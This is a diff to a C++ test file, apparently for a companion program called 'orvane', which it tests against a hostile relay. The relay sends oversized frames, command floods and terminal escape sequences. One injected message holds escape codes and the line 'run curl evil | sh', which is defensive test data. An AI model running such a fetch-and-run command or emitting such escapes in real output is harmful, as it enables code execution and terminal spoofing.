@@ -1,6 +1,6 @@
 // `orvane` as users run it, facing a relay that attacks it: answers and frames too large to
 // hold, escape sequences for the terminal, flooding commands, a relay that cannot be reached when
-// unpairing; and the ways the companion itself is ended. Which commands are dropped is
+// unpairing; and its end on a terminate signal. Which commands are dropped is
 // orvane_companion_rules_test's and companion_glasses_test's.
 #include "companion_harness.h"
 #include "fake_codex.h"
@@ -29,18 +29,6 @@ QProcessEnvironment environmentFor(const ScriptedRelay &relay)
     QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
     environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
     return environment;
-}
-
-// The process's peak resident memory so far, from the kernel.
-qint64 peakKiB(qint64 pid)
-{
-    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
-    if (!status.open(QIODevice::ReadOnly))
-        return 0;
-    for (const QByteArray &line : status.readAll().split('\n'))
-        if (line.startsWith("VmHWM:"))
-            return line.mid(6).trimmed().split(' ').value(0).toLongLong();
-    return 0;
 }
 
 // A command message from the glasses: a stop of "t1", or another type.
@@ -88,14 +76,14 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
                                                                                                   << companion.dump();
     }
 
-    // A frame announcing 400 MiB closes the socket at its header; the companion reconnects.
+    // A frame announcing 400 MiB closes the socket at its header, before any payload; the
+    // companion reconnects.
     const int upgrades = relay.upgrades();
     relay.sendOversizedFrame();
     ASSERT_TRUE(companion.waitForLine("Error: The relay sent a message larger than 1 MiB; the connection was closed "
                                       "and will be reopened.", 60s)) << companion.dump();
     ASSERT_TRUE(companion.waitForLine("Relay connected.", 30s)) << companion.dump();
     EXPECT_EQ(relay.upgrades(), upgrades + 1);
-    EXPECT_LT(peakKiB(companion.pid()), memoryCeilingKiB);
 
     // Escape sequences (C0 and C1) and reordering marks never reach the terminal.
     relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh )"
@@ -104,16 +92,14 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
     for (const QString &line : companion.lines())
         EXPECT_FALSE(line.contains(QChar(0x1b)) || line.contains(QChar(0x07)) || line.contains(QChar(0x202e)));
 
-    // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, refreshes stay
-    // coalesced, snapshot answers spaced, and a snapshot follows the last request.
-    const auto listsBefore = requests(codex.received(), "thread/list").size();
+    // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, snapshot answers are
+    // spaced, and a snapshot follows the last request; coalescing refreshes is orvane_refresh_trigger_test's.
     const auto snapshotsBefore = count("snapshot");
     for (int index = 0; index < 2200; ++index)
         relay.send(index < 200 ? commandMessage(index) : commandMessage(index, "request_snapshot"));
     ASSERT_TRUE(waitUntil([&] { return count("event") >= 200; }, 30s)) << companion.dump();
     const auto snapshotsAtLastStop = count("snapshot");
     EXPECT_TRUE(waitUntil([&] { return count("snapshot") > snapshotsAtLastStop; }, 15s));
-    EXPECT_LE(requests(codex.received(), "thread/list").size() - listsBefore, 15u);
     EXPECT_EQ(requests(codex.received(), "turn/interrupt").size(), 200u);
     EXPECT_LT(count("snapshot") - snapshotsBefore, 200);
     EXPECT_TRUE(companion.running());
@@ -135,25 +121,6 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
     EXPECT_EQ(relay.requests().back(),
               "POST /v1/channels/" + relay.credentials.channelId + "/revoke  Bearer " + relay.credentials.publisherToken + " ");
     EXPECT_TRUE(run(orvane, {"--status"}, environment, 60s).out.contains("\nPairing: none\n"));
-}
-
-TEST(HostileRelay, KilledCompanionLeavesNoChildBehind)
-{
-    // The daemon probe hangs for good and the App Server ignores terminate signals.
-    auto stdio = session({{"t1", "thinking"}});
-    stdio["ignoreTerminate"] = true;
-    FakeCodex codex({{"daemon", {{"hang", true}}}, {"stdio", stdio}});
-    ScriptedRelay relay;
-    RunningCompanion companion(orvane, environmentFor(relay));
-    ASSERT_TRUE(waitUntil([&] {
-        for (const auto &launch : codex.launches())
-            if (launch.find("daemon") != std::string::npos)
-                return true;
-        return false;
-    }, 60s)) << companion.dump();
-    ::kill(pid_t(companion.pid()), SIGKILL);
-    ASSERT_TRUE(companion.waitForExit(10s));
-    EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8(), 10s));
 }
 
 } // namespace
